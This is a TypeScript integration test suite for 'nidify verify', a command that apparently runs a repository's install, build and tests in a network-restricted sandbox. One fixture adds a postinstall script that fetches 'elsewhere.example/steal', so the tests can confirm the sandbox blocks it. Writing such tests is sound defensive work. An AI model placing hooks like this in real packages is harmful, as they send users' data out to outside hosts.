/** `nidify verify` as a user has it: the built command, a registry on this machine, an environment of Nix. */
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { execa } from 'execa';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { analyze } from '../../src/analyze.ts';
import type { VerifyResult } from '../../src/cli/results/index.ts';
import { lockOf } from '../../src/lock/make.ts';
import { render } from '../../src/render/render.ts';
import { write } from '../../src/write/write.ts';
import { describeNix, type NixVersion, nixEnvironment } from './harness.ts';
import { standInCatalogue } from './stand-in-catalogue.ts';

const cli = fileURLToPath(new URL('../../dist/cli.js', import.meta.url));

describeNix('nidify verify', (nixes) => {
  const storage = mkdtempSync(path.join(tmpdir(), 'nidify-verify-test-'));
  let env: Record<string, string>;
  let registry: Server;
  let address: string;
  let integrity: string;
  let count = 0;

  beforeAll(async () => {
    env = await nixEnvironment(nixes.at(-1) as NixVersion);
    const packed = path.join(storage, 'package');
    mkdirSync(packed);
    writeFileSync(path.join(packed, 'package.json'), '{ "name": "lucky", "version": "1.0.0" }');
    writeFileSync(path.join(packed, 'index.js'), 'module.exports = 7;\n');
    await execa('tar', ['-czf', 'lucky.tgz', 'package'], { cwd: storage });
    const tarball = readFileSync(path.join(storage, 'lucky.tgz'));
    integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`;
    registry = createServer((request, response) => {
      if (request.url?.endsWith('.tgz') === true) response.end(tarball);
      else response.writeHead(404).end('{}');
    });
    await new Promise<void>((resolve) => registry.listen(0, '127.0.0.1', resolve));
    address = `127.0.0.1:${(registry.address() as AddressInfo).port}`;
  });
  afterAll(() => {
    registry.close();
    rmSync(storage, { recursive: true, force: true });
  });

  async function repository(files: Record<string, string>): Promise<string> {
    const folder = path.join(storage, `repository-${count++}`);
    for (const [name, text] of Object.entries(files)) {
      mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
      writeFileSync(path.join(folder, name), text);
    }
    const plan = await analyze(folder, { catalogue: await standInCatalogue() });
    const generated = await render(plan);
    await write(generated, { directory: folder, lock: lockOf(plan, generated) });
    return folder;
  }

  async function verify(folder: string, args: string[] = []) {
    const { exitCode, stdout, stderr } = await execa(process.execPath, [cli, 'verify', '--json', ...args], {
      cwd: folder,
      env: { ...env, npm_config_registry: `http://${address}/`, API_TOKEN: 'secret' },
      extendEnv: false,
      reject: false,
      timeout: 120_000,
    });
    if (!stdout.startsWith('{')) throw new Error(`no answer: ${exitCode} ${stderr}`);
    const result = JSON.parse(stdout) as VerifyResult;
    const step = (project: string, name: string) =>
      result.projects.find((each) => each.path === project)?.steps.find((each) => each.step === name);
    return { exitCode, result, step };
  }

  const locked = (packages: object) =>
    JSON.stringify({
      name: 'shop',
      lockfileVersion: 3,
      packages: {
        ...packages,
        'node_modules/lucky': { version: '1.0.0', resolved: `http://${address}/lucky.tgz`, integrity },
      },
    });

  test('runs the own tests of a repository of shell scripts, with the program that they call', async () => {
    const folder = await repository({
      'greet.sh': '#!/usr/bin/env bash\nset -euo pipefail\necho "hello $1"\n',
      'test.sh':
        '#!/usr/bin/env bash\nset -euo pipefail\nshellcheck greet.sh\n[ "$(bash greet.sh world)" = "hello world" ]\n',
    });
    const { exitCode, result, step } = await verify(folder);
    expect(exitCode, JSON.stringify(result.projects, null, 1)).toBe(0);
    expect(step('.', 'test')).toMatchObject({ outcome: 'passed', command: 'bash test.sh' });
    writeFileSync(path.join(folder, 'greet.sh'), '#!/usr/bin/env bash\necho goodbye\n');
    expect((await verify(folder)).step('.', 'test')).toMatchObject({ outcome: 'failed' });
  });

  test('installs a workspace through the registry, builds what needs another build, and tests offline', async () => {
    const folder = await repository({
      '.gitignore': 'left-over\n',
      'left-over': '',
      'package.json': JSON.stringify({
        name: 'shop',
        engines: { node: '22' },
        workspaces: ['packages/*'],
        dependencies: { lucky: '1.0.0' },
      }),
      'package-lock.json': locked({
        '': { name: 'shop', workspaces: ['packages/*'], dependencies: { lucky: '1.0.0' } },
        'packages/a': { name: 'a' },
        'packages/b': { name: 'b' },
        'node_modules/a': { resolved: 'packages/a', link: true },
        'node_modules/b': { resolved: 'packages/b', link: true },
      }),
      'packages/a/package.json': JSON.stringify({ name: 'a', scripts: { build: 'node ../../needs-b.js' } }),
      'packages/b/package.json': JSON.stringify({
        name: 'b',
        scripts: { build: 'node ../../write.js', test: 'node --test' },
      }),
      'needs-b.js': "require('./packages/b/built.json')",
      'write.js': "require('fs').writeFileSync('built.json', JSON.stringify(require('lucky')))",
      'packages/b/b.test.js': `
        const test = require('node:test'); const assert = require('node:assert'); const fs = require('node:fs');
        test('sees what was installed and built', () => assert.equal(require('./built.json'), 7));
        test('has no network', () => assert.rejects(fetch('http://${address}/lucky.tgz')));
        test('has nothing of the caller', () => assert.equal(process.env.API_TOKEN, undefined));
        test('has a clean copy', () => assert.equal(fs.existsSync('../../left-over'), false));
        test('has the home of the installation', () => assert.ok(fs.existsSync(process.env.HOME + '/.npm')));
        test('is told that nobody watches', () => assert.equal(process.env.CI, 'true'));`,
    });
    const before = readdirSync(folder).sort();
    const { exitCode, result, step } = await verify(folder);
    expect(exitCode, JSON.stringify(result.projects, null, 1)).toBe(0);
    expect(step('.', 'install')).toMatchObject({ outcome: 'passed', command: 'npm ci', reached: [address] });
    expect(step('packages/b', 'install')).toMatchObject({ outcome: 'skipped', reason: 'part of .' });
    expect(step('packages/a', 'build')?.outcome).toBe('passed');
    expect(step('packages/b', 'test')).toMatchObject({ outcome: 'passed', network: [], reached: [] });
    expect(result.environments[0]?.sandbox.held).toBe(true);
    expect(readdirSync(folder).sort()).toEqual(before);
  });

  test('tries the sandbox once for all steps, and before anything is built for them', async () => {
    const folder = await repository({
      'package.json': JSON.stringify({
        name: 'two',
        engines: { node: '22' },
        scripts: { build: 'true', test: 'true' },
      }),
    });
    const programs = path.join(storage, `programs-${count++}`);
    mkdirSync(programs);
    const log = path.join(programs, 'log');
    const { stdout: real } = await execa('which', ['bwrap']);
    const wrapper = (then: string) =>
      writeFileSync(path.join(programs, 'bwrap'), `#!/bin/sh\necho "$*" >> ${log}\n${then}\n`, {
        mode: 0o755,
      });
    const nidify = (more: string[] = []) =>
      execa(process.execPath, [cli, 'verify', '--json', ...more], {
        cwd: folder,
        env: { ...env, PATH: `${programs}:${env.PATH}` },
        extendEnv: false,
        reject: false,
      });
    wrapper('exit 1');
    expect(await nidify()).toMatchObject({
      exitCode: 4,
      stdout: expect.stringContaining('sandbox-unavailable'),
      stderr: expect.not.stringContaining('to build'),
    });
    wrapper(`exec ${real} "$@"`);
    writeFileSync(log, '');
    const { exitCode, stderr } = await nidify(['--prove']);
    expect(exitCode, stderr).toBe(0);
    const started = readFileSync(log, 'utf8').trim().split('\n');
    expect(started.filter((line) => line.endsWith('--version'))).toHaveLength(1);
    expect(started.filter((line) => line.includes('--args')).length).toBeGreaterThan(1);
  });

  test('says what failed, what it printed, and where it was not let out to', async () => {
    const folder = await repository({
      'package.json': JSON.stringify({
        name: 'shop',
        engines: { node: '22' },
        dependencies: { lucky: '1.0.0' },
        scripts: {
          postinstall: 'node -e "fetch(\'http://elsewhere.example/steal\').catch(() => {})"',
          build: 'echo built',
          test: 'echo expected seven; exit 3',
        },
      }),
      'package-lock.json': locked({ '': { name: 'shop', dependencies: { lucky: '1.0.0' } } }),
    });
    const { exitCode, step } = await verify(folder);
    expect(exitCode).toBe(5);
    expect(step('.', 'install')?.refused).toEqual([
      { target: expect.stringContaining('elsewhere.example'), reason: expect.stringContaining('not among') },
    ]);
    expect(step('.', 'build')?.outcome).toBe('passed');
    expect(step('.', 'test')).toMatchObject({ outcome: 'failed', exitCode: 3 });
    expect(step('.', 'test')?.tail).toContain('expected seven');
  });

  test('does not build what could not be installed, and ends what never does', async () => {
    const broken = await repository({
      'package.json': JSON.stringify({
        name: 'shop',
        engines: { node: '22' },
        scripts: { preinstall: 'exit 9', build: 'echo built' },
      }),
      'package-lock.json': '{ "name": "shop", "lockfileVersion": 3, "packages": { "": { "name": "shop" } } }',
    });
    const { exitCode, step } = await verify(broken);
    expect(exitCode).toBe(5);
    expect(step('.', 'install')?.outcome).toBe('failed');
    expect(step('.', 'build')).toMatchObject({ outcome: 'skipped', reason: 'installing failed' });

    const endless = await repository({
      'package.json': JSON.stringify({
        name: 'shop',
        engines: { node: '22' },
        scripts: { test: 'echo waiting; sleep 7654' },
      }),
    });
    const ended = await verify(endless, ['--timeout', '15']);
    expect(ended.exitCode).toBe(5);
    expect(ended.step('.', 'test')?.outcome).toBe('timed-out');
    expect(ended.step('.', 'test')?.tail).toContain('waiting');
    expect((await execa('pgrep', ['-f', '^sleep 7654$'], { reject: false })).stdout).toBe('');
  });
});
